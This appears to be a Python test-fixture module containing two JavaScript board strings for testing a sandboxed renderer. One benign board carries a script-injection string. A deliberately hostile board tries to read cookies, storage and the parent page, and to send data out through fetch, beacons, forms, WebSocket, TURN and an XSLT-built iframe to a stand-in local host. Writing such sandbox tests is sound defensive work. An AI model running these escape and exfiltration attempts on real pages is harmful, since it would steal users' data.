"""Boards that packages bring along: one that draws, and one that tries to get out of its frame."""

from __future__ import annotations

DRAWING = """\
export function parse(input, answer) {
  const stop = answer.trim() === "7" ? { text: "seven", at: 1 } : undefined;
  return { start: input, steps: [...answer.trim()], stop };
}
export function frames({ steps }) {
  return { count: steps.length, seek: (step) => ({ step, shown: steps.slice(0, step).join("") }) };
}
export function draw({ shown }, drawn) {
  const line = drawn ?? document.createElement("p");
  line.textContent = `so far: ${shown}`;
  return line;
}
export const say = ({ step, shown }) => `Step ${step}: ${shown || "nothing"}. </script><script>alert(1)</script>`;
"""

NOBODY = "127.0.0.1:9"
"""The host that the hostile board calls; a test that listens puts its own place there."""

HOSTILE = """\
const won = [];
async function attempt(name, act) {
  try {
    const value = await act();
    if (value !== "stopped") won.push(name);
  } catch { /* stopped, as it should be */ }
}
const HOST = "http://127.0.0.1:9/";
export function parse() { return { steps: [1, 2] }; }
export const frames = () => ({ count: 2, seek: (step) => ({ step }) });
export function draw({ step }) {
  if (step === 1) location.href = HOST + "leak";
  return document.createElement("p");
}
export const say = ({ step }) => (step === 2 ? `won: ${won.join()};` : "trying");
await attempt("cookie", () => document.cookie);
await attempt("storage", () => localStorage.length);
await attempt("parent DOM", () => parent.document.body.textContent);
await attempt("top address", () => { top.location.href = HOST; return "stopped"; });
await attempt("top name", () => parent.location.href);
await attempt("fetch", () => fetch(HOST));
await attempt("own site", () => fetch(location.origin === "null" ? "/api/account" : location.origin));
await attempt("websocket", () => new Promise((done, fail) => {
  const socket = new WebSocket(HOST.replace("http", "ws")); socket.onerror = fail; setTimeout(done, 300);
}));
await attempt("image", () => new Promise((done, fail) => {
  const image = new Image(); image.onload = done; image.onerror = fail;
  image.src = document.baseURI.replace(/\\/c\\/.*/, "/static/icon.svg");
}));
await attempt("script", () => new Promise((done, fail) => {
  const script = document.createElement("script"); script.src = "/static/jurado.js";
  script.onload = done; script.onerror = fail;
  document.head.append(script);
}));
await attempt("rtc", () => new RTCPeerConnection());
await attempt("rtc of a child", () => {
  const child = document.createElement("iframe"); document.body.append(child);
  return new child.contentWindow.RTCPeerConnection();
});
const soon = (act) => new Promise((done) => setTimeout(() => done(act), 2000));
await attempt("import", () => Promise.race([import(HOST + "?answer"), soon()]));
const CALL = `
  const call = new RTCPeerConnection({
    iceServers: [{ urls: "turn:127.0.0.1:9?transport=tcp", username: "answer", credential: "answer" }],
  });
  call.createDataChannel("x");
  call.createOffer().then((offer) => call.setLocalDescription(offer)).then(() => parent.postMessage("rtc", "*"));`;
const TEXT = `<script nonce="${document.querySelector("script[nonce]")?.nonce}">${CALL}</${"script"}>`;
const heard = (append) => new Promise((done, fail) => {
  addEventListener("message", ({ data }) => data === "rtc" && done());
  append().onload = () => soon().then(fail);
});
await attempt("rtc of a child with a text", () => heard(() => {
  const child = document.createElement("iframe");
  child.srcdoc = TEXT;
  document.body.append(child);
  return child;
}));
await attempt("rtc of a child of a style sheet", () => heard(() => {
  const space = "http://www.w3.org/1999/XSL/Transform";
  const sheet = document.implementation.createDocument(space, "xsl:stylesheet");
  sheet.documentElement.setAttribute("version", "1.0");
  const add = (parent, name, words) => {
    const node = parent.appendChild(sheet.createElementNS(space, name));
    for (const [key, value] of Object.entries(words)) node.setAttribute(key, value);
    return node;
  };
  const template = add(sheet.documentElement, "xsl:template", { match: "/" });
  const child = add(template, "xsl:element", { name: "iframe", namespace: "http://www.w3.org/1999/xhtml" });
  add(child, "xsl:attribute", { name: "srcdoc" }).textContent = TEXT;
  const processor = new XSLTProcessor();
  processor.importStylesheet(sheet);
  document.body.append(processor.transformToFragment(document.implementation.createDocument(null, "x"), document));
  return document.body.lastElementChild;
}));
await attempt("markup", () => { document.createElement("p").innerHTML = "<b>"; });
await attempt("worker of its own", () => new Worker(URL.createObjectURL(new Blob([""], { type: "text/javascript" }))));
await attempt("window", () => open(HOST) ?? "stopped");
await attempt("form", () => {
  const form = document.createElement("form"); form.action = HOST; document.body.append(form); form.submit();
  return "stopped";
});
await attempt("worker", () => new Worker("/static/board/worker.js"));
await attempt("beacon", () => { navigator.sendBeacon(HOST, "x"); return "stopped"; });
"""
